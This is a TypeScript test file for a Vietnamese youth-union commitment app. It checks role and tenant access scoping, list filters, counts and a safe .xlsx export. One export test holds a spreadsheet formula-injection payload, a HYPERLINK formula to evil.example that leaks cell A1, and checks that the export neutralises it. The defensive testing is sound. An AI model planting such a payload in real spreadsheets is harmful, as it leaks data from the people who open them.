// Who sees which commitments (SECURITY.md #3, #4, #5, #7, #26), the reviewers' list and its
// filters, the "not registered" count, the .xlsx export (#20) and the report counts. Each block
// uses its own year or its own tenant, so the blocks never count each other's rows.
import { beforeAll, describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import { db } from "@/lib/db/client";
import { getCommitment, myCommitment } from "@/lib/data/commitment-reads";
import { countCommitments, exportCommitments, listCommitments } from "@/lib/data/commitment-lists";
import { commitmentListQuery } from "@/lib/validation/commitments";
import type { Viewer } from "@/lib/authz";
import { makeMember, makeTenant, makeUser, type Tenant } from "../factories";
import { viewerOf } from "../helpers/viewers";
import { makeCommitment, makeMemberAccount, PILLARS, thisYear } from "../helpers/commitments";

let a: Tenant;
let b: Tenant;
let coSoBSecretary: { id: string };
const Y = thisYear();

beforeAll(async () => {
  a = await makeTenant(db());
  b = await makeTenant(db());
  coSoBSecretary = await makeUser(db(), { role: "CO_SO_SECRETARY", unit: a.coSoB });
});

const query = (q: Record<string, unknown>) => commitmentListQuery.parse(q);
const names = async (viewer: Viewer, year: number) =>
  (await listCommitments(viewer, query({ year }))).rows.map((r) => r.memberName).sort();

describe("who sees which commitments (scope, SECURITY.md #3, #4, #5, #26)", () => {
  const year = Y - 5;
  let rows: Record<"a1" | "a2" | "b1" | "withdrawn" | "other", { id: string }>;
  let withdrawnOwner: Awaited<ReturnType<typeof makeMemberAccount>>;

  beforeAll(async () => {
    withdrawnOwner = await makeMemberAccount(a.chiDoanA1);
    rows = {
      a1: await makeCommitment(a.members.a1, { year }),
      a2: await makeCommitment(a.members.a2, { year }),
      b1: await makeCommitment(a.members.b1, { year }),
      withdrawn: await makeCommitment(withdrawnOwner.member, { year, status: "WITHDRAWN" }),
      other: await makeCommitment(b.members.a1, { year }),
    };
  });

  const notFound = { code: "NOT_FOUND", message: "Không tìm thấy bản đăng ký rèn luyện" };

  it("a member sees their own only", async () => {
    const member = await viewerOf(a.users.member.id);
    expect(await names(member, year)).toEqual([a.members.a1.fullName]);
    const own = await getCommitment(member, rows.a1.id);
    expect(own.isOwn).toBe(true);
    // A DTO: no ids of accounts or tenants, no reviewer's account (SECURITY.md #7).
    for (const key of ["member", "memberId", "khoiId", "reviewedById", "userId", "pledges", "pillars"])
      expect(own).not.toHaveProperty(key);
    await expect(getCommitment(member, rows.a2.id)).rejects.toMatchObject(notFound);
  });

  it("a chi đoàn secretary sees their chi đoàn only; a cơ sở secretary their cơ sở, not a sibling's", async () => {
    const chiDoan = await viewerOf(a.users.chiDoan.id);
    expect(await names(chiDoan, year)).toEqual([a.members.a1.fullName]);
    await expect(getCommitment(chiDoan, rows.a2.id)).rejects.toMatchObject(notFound);
    const coSo = await viewerOf(a.users.coSo.id);
    expect(await names(coSo, year)).toEqual([a.members.a1.fullName, a.members.a2.fullName].sort());
    expect((await getCommitment(coSo, rows.a2.id)).reviewStep).toBe("commitment");
    await expect(getCommitment(coSo, rows.b1.id)).rejects.toMatchObject(notFound);
    await expect(getCommitment(await viewerOf(coSoBSecretary.id), rows.a1.id)).rejects.toMatchObject(notFound);
  });

  it("Khối staff read the whole Khối but review nothing; the other Khối and the city find no names", async () => {
    const staff = await viewerOf(a.users.staff.id);
    expect(await names(staff, year)).toEqual([a.members.a1.fullName, a.members.a2.fullName, a.members.b1.fullName].sort());
    expect((await getCommitment(staff, rows.b1.id)).reviewStep).toBeNull();
    const otherAdmin = await viewerOf(b.users.admin.id);
    expect(await names(otherAdmin, year)).toEqual([b.members.a1.fullName]);
    await expect(getCommitment(otherAdmin, rows.a1.id)).rejects.toMatchObject(notFound);
    expect(await names(await viewerOf(a.users.city.id), year)).toEqual([]);
    // The city counts them (numbers, never names).
    expect(await countCommitments(await viewerOf(a.users.city.id), year)).toEqual(await countCommitments(staff, year));
  });

  it("a withdrawn commitment vanishes from every read: details, list, counts, export and the member's own page", async () => {
    const staff = await viewerOf(a.users.staff.id);
    await expect(getCommitment(staff, rows.withdrawn.id)).rejects.toMatchObject(notFound);
    expect((await listCommitments(staff, query({ year }))).rows.map((r) => r.id)).not.toContain(rows.withdrawn.id);
    expect((await countCommitments(staff, year)).reduce((n, g) => n + g.count, 0)).toBe(3);
    const sheet = await readSheet(await exportCommitments(staff, query({ year })));
    expect(sheet.flat()).not.toContain(withdrawnOwner.fullName);
    expect(sheet).toHaveLength(1 + 3);
    expect((await myCommitment(await viewerOf(withdrawnOwner.userId), year)).commitment).toBeNull();
  });

  it("filters by status, assessment, unit and a name typed without diacritics", async () => {
    const staff = await viewerOf(a.users.staff.id);
    const tail = a.label.toLowerCase();
    const found = await listCommitments(staff, query({ year, q: `tran thi hoa ${tail}` }));
    expect(found.rows.map((r) => r.id)).toEqual([rows.a2.id]);
    expect((await listCommitments(staff, query({ year, coSo: a.coSoB.id }))).rows.map((r) => r.id)).toEqual([rows.b1.id]);
    expect((await listCommitments(staff, query({ year, chiDoan: a.chiDoanA1.id }))).rows.map((r) => r.id)).toEqual([rows.a1.id]);
    expect((await listCommitments(staff, query({ year, status: "CONFIRMED" }))).total).toBe(0);
    expect((await listCommitments(staff, query({ year, assessment: "NONE" }))).total).toBe(0);
    // Bad filter values fall back to no filter instead of failing the page.
    expect(query({ year: "abc", status: "DELETED", chiDoan: "x", page: "-3" })).toEqual({
      year: undefined,
      status: undefined,
      assessment: undefined,
      chiDoan: undefined,
      coSo: undefined,
      q: "",
      page: 1,
    });
  });
});

async function readSheet(buffer: Buffer): Promise<unknown[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  wb.worksheets[0].eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe("members who have not registered yet", () => {
  it("are counted for the viewer's units and the unit filtered on; a withdrawn commitment counts as none", async () => {
    const c = await makeTenant(db());
    await makeCommitment(c.members.a1, { year: Y });
    await makeCommitment(c.members.a2, { year: Y, status: "WITHDRAWN" });
    const staff = await viewerOf(c.users.staff.id);
    expect((await listCommitments(staff, query({ year: Y }))).notRegistered).toBe(2);
    expect((await listCommitments(staff, query({ year: Y, coSo: c.coSoB.id }))).notRegistered).toBe(1);
    expect((await listCommitments(await viewerOf(c.users.coSo.id), query({ year: Y }))).notRegistered).toBe(1);
    expect((await listCommitments(await viewerOf(c.users.chiDoan.id), query({ year: Y }))).notRegistered).toBe(0);
    expect((await listCommitments(staff, query({ year: Y - 1 }))).notRegistered).toBe(3);
  });
});

describe("the .xlsx export", () => {
  it("writes one row per member with the pledges under each pillar, and neutralises formulas (SECURITY.md #20)", async () => {
    const year = Y - 7;
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
    await makeCommitment(a.members.a2, {
      year,
      pledges: [evil, "+1+1", "@SUM(A1)"],
      status: "CONFIRMED",
      assessmentStatus: "CONFIRMED",
      rating: "EXCELLENT",
    });
    await makeCommitment(b.members.a1, { year });
    const buffer = await exportCommitments(await viewerOf(a.users.coSo.id), query({ year }));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buffer as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    expect(ws.rowCount).toBe(2);
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual(expect.arrayContaining(["Họ và tên", ...PILLARS.map((p) => `Đăng ký: ${p}`), "Tự xếp loại"]));
    const row = ws.getRow(2);
    const cellOf = (title: string) => row.getCell(header.indexOf(title) + 1);
    expect(cellOf("Họ và tên").value).toBe(a.members.a2.fullName);
    const pledge = cellOf(`Đăng ký: ${PILLARS[0]}`);
    expect(pledge.type).toBe(ExcelJS.ValueType.String);
    expect(pledge.formula).toBeUndefined();
    expect(pledge.value).toBe(`'${evil}`);
    expect(cellOf(`Đăng ký: ${PILLARS[1]}`).value).toBe("'+1+1");
    expect(cellOf("Tự xếp loại").value).toBe("Hoàn thành xuất sắc");
  });
});

describe("countCommitments, for the reports", () => {
  it("counts by cơ sở × status × assessment status × rating, in the viewer's reach, leaving out withdrawn ones and other years", async () => {
    const d = await makeTenant(db());
    const year = Y - 2;
    const inA = async () => makeMember(db(), d.chiDoanA1);
    const inB = async () => makeMember(db(), d.chiDoanB1);
    await makeCommitment(await inA(), { year, status: "CONFIRMED", assessmentStatus: "CONFIRMED", rating: "EXCELLENT" });
    await makeCommitment(await inA(), { year, status: "CONFIRMED", assessmentStatus: "CONFIRMED", rating: "EXCELLENT" });
    await makeCommitment(await inA(), { year, status: "SUBMITTED" });
    await makeCommitment(await inA(), { year, status: "RETURNED" });
    await makeCommitment(await inB(), { year, status: "CONFIRMED", assessmentStatus: "SUBMITTED", rating: "GOOD" });
    await makeCommitment(await inB(), { year, status: "WITHDRAWN" });
    await makeCommitment(await inB(), { year: year - 1, status: "SUBMITTED" });
    const inCoSoA = [
      { coSoId: d.coSoA.id, status: "RETURNED", assessmentStatus: null, rating: null, count: 1 },
      { coSoId: d.coSoA.id, status: "SUBMITTED", assessmentStatus: null, rating: null, count: 1 },
      { coSoId: d.coSoA.id, status: "CONFIRMED", assessmentStatus: "CONFIRMED", rating: "EXCELLENT", count: 2 },
    ];
    const inCoSoB = [{ coSoId: d.coSoB.id, status: "CONFIRMED", assessmentStatus: "SUBMITTED", rating: "GOOD", count: 1 }];
    const sorted = (xs: object[]) => [...xs].map((x) => JSON.stringify(x)).sort();
    expect(sorted(await countCommitments(await viewerOf(d.users.staff.id), year))).toEqual(sorted([...inCoSoA, ...inCoSoB]));
    expect(sorted(await countCommitments(await viewerOf(d.users.coSo.id), year))).toEqual(sorted(inCoSoA));
    expect(await countCommitments(await viewerOf(a.users.staff.id), year)).toEqual([]);
  });
});
